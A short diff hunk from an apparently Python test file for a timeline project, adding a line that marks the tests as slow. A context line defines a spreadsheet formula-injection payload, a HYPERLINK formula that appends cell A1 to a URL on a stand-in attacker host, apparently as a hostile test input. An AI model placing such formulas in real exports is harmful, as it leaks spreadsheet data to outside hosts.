@@ -22,6 +22,8 @@ from timeline.schema import TABLES
 from timeline.views.caption import Edition, caption_of
 from timeline.views.view import KINDS, View
 
+pytestmark = pytest.mark.slow
+
 MADE = Edition(date(2026, 11, 22), "https://example.org/tl/")
 BAD = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
